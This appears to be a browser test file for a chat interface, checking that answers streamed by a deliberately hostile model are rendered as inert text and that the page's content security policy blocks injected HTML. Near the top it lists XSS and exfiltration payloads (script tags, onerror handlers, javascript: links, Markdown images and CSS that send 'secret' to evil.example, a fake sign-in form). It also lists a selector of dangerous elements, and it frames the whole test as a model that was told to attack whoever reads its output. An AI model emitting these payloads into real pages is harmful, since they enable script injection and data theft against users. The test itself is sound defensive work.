import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect } from 'vitest';
import { actor } from './actors.ts';
import { browserTest, useBrowser } from './browser.ts';
import { answers, over, say } from './on-page.ts';
import { servePage } from './serve-page.ts';

const open = useBrowser();
const far = 'https://evil.example';

/** What a model may write that was told to attack whoever reads it. Each tries to run something, or to have something fetched. */
const attacks: { readonly [what: string]: string } = {
  'a script': `<script>window.hacked = true; fetch('${far}/script')</script>`,
  'a handler of an image': `<img src=x onerror="window.hacked = true; fetch('${far}/onerror')">`,
  'a drawing that runs': `<svg onload="window.hacked = true"><image href="${far}/svg"/></svg>`,
  'a frame': `<iframe src="${far}/frame" srcdoc="<script>parent.hacked = true</script>"></iframe>`,
  'links that run': `[click](javascript:window.hacked=true) [tab](java\tscript:window.hacked=true) [entity](&#106;avascript:window.hacked=true) [data](data:text/html,<script>opener.hacked=true</script>) <javascript:window.hacked=true> [vb](vbscript:x) [blob](blob:${far}/1)`,
  'pictures that carry what was said away': `![secret](${far}/image?said=secret) ![by name][leak] <img src="${far}/raw">\n\n[leak]: ${far}/named?said=secret`,
  'a picture that is a drawing': `![x](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${far}/in-svg"/></svg>`).toString('base64')})`,
  'styles': `<style>body { background: url(${far}/css) } @import '${far}/import.css';</style><p style="position:fixed;inset:0;background:url(${far}/style)">over everything</p>`,
  'hints to fetch ahead': `<link rel="prefetch" href="${far}/prefetch"><link rel="dns-prefetch" href="//secret.evil.example"><meta http-equiv="refresh" content="0;url=${far}/refresh"><base href="${far}/">`,
  'a form': `<form action="${far}/form"><input name="password"><button>Sign in</button></form>`,
  'a formula with links and pictures': `$$\\href{javascript:window.hacked=true}{x} \\includegraphics{${far}/maths.png} \\htmlStyle{position:fixed}{y} \\url{${far}}$$`,
  'code with HTML in its name': `\`\`\`"><img/src=x/onerror=window.hacked=true>\n<script>window.hacked = true</script>\n\`\`\``,
  'code that its colouring might let out': '```html\n<img src=x onerror="window.hacked = true"><script>window.hacked = true</script>\n```',
  'a table with HTML': '| <img src=x onerror=window.hacked=true> | b |\n|---|---|\n| <script>window.hacked=true</script> | [x](javascript:window.hacked=true) |',
  'HTML between Markdown': `**<b onclick="window.hacked=true">bold</b>** <a href="javascript:window.hacked=true">a</a> <details open ontoggle="window.hacked=true">x</details>`,
  'a link to elsewhere': `[harmless](${far}/link?said=secret "<img src=x onerror=window.hacked=true>") and <${far}/auto> and www.evil.example`,
};

/** A server elsewhere, and what it was asked for. */
async function listenElsewhere() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, [Symbol.asyncDispose]: async () => void server.close() };
}

/** What stands in the page of an answer that can do something. */
const dangerous = 'script, iframe, object, embed, link, meta, base, style, form, img[src^="http"], img[src^="//"], img[src^="data:image/svg"], image, [onerror], [onload], [onclick], [ontoggle], a[href^="javascript" i], a[href^="data" i], a[href^="vbscript" i], a[href^="blob" i]';

describe('an answer that attacks', () => {
  browserTest('runs nothing, fetches nothing, and stands there as text', async () => {
    const names = Object.keys(attacks);
    const { provider } = actor('hostile', async function* ({ messages }) {
      const asked = messages.filter(({ role }) => role === 'user').length - 1;
      // In pieces, so that what is half written is drawn too.
      for (const piece of (attacks[names[asked] ?? ''] ?? '').match(/[^]{1,12}/g) ?? []) {
        yield piece;
        await new Promise((resolve) => setTimeout(resolve, 2));
      }
    });
    await using server = await servePage({ providers: [provider] });
    await using window = await open();
    const { page, context, requests, complaints } = window;
    const policyBroken: string[] = [];
    await page.exposeFunction('tellViolation', (text: string) => policyBroken.push(text));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => void (globalThis as unknown as { tellViolation: (text: string) => void }).tellViolation(`${event.violatedDirective} ${event.blockedURI}`));
    });
    await page.goto(server.url);
    for (const [index, name] of names.entries()) {
      await say(page, name);
      const answer = await over(page, index + 1);
      await answer.locator('.markdown').waitFor();
    }
    const all = page.locator('.markdown');
    await page.locator('.katex, .markdown-code').first().waitFor();
    await page.locator('.hljs-tag').first().waitFor();
    expect(await all.locator(dangerous).evaluateAll((elements) => elements.map((element) => element.outerHTML))).toEqual([]);
    expect(await all.locator('[style*="fixed"], [style*="url("]').count()).toBe(0);
    for (const link of await answers(page).locator('a').all()) {
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      expect(await link.getAttribute('target')).toBe('_blank');
      expect(new URL((await link.getAttribute('href')) ?? '').protocol).toMatch(/^https?:$/);
      expect(await link.innerText()).toContain('evil.example');
    }
    // Whoever is curious clicks on all of it.
    for (const dead of await all.locator('.markdown-dead').all()) await dead.click();
    expect(await page.evaluate(() => (globalThis as { readonly hacked?: true }).hacked)).toBeUndefined();
    const origins = new Set(requests.filter((url) => !url.startsWith('data:') && !url.startsWith('blob:')).map((url) => new URL(url).origin));
    expect([...origins]).toEqual([server.url]);
    // Nothing was even tried that the policy had to stop.
    expect([policyBroken, complaints]).toEqual([[], []]);
    expect([context.pages().length, new URL(page.url()).origin]).toEqual([1, server.url]);
  });

  browserTest('could not do more if it did become HTML: the policy of the page holds', async () => {
    const { provider } = actor('any', () => ['Hi']);
    await using server = await servePage({ providers: [provider] });
    await using elsewhere = await listenElsewhere();
    await using window = await open();
    const { page } = window;
    await page.goto(server.url);
    await page.getByRole('navigation', { name: 'Views' }).waitFor();
    const violated = await page.evaluate(async (elsewhere) => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
      const place = document.createElement('div');
      place.innerHTML = `<img src="${elsewhere}/i" onerror="window.hacked = true"><img src="x" onerror="window.hacked = true"><p style="position: fixed">x</p><iframe src="${elsewhere}"></iframe><style>p { color: red }</style><link rel="stylesheet" href="${elsewhere}/s.css">`;
      document.body.append(place);
      const script = document.createElement('script');
      script.textContent = 'window.hacked = true';
      document.body.append(script);
      await fetch(`${elsewhere}/f`).catch(() => undefined);
      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- what the policy forbids
      setTimeout('window.hacked = true');
      await new Promise((resolve) => setTimeout(resolve, 200));
      return [...new Set(seen)].sort();
    }, elsewhere.url);
    expect(violated).toEqual(['connect-src', 'frame-src', 'img-src', 'script-src', 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem']);
    expect(await page.evaluate(() => (globalThis as { readonly hacked?: true }).hacked)).toBeUndefined();
    expect(elsewhere.asked).toEqual([]);
  });
});
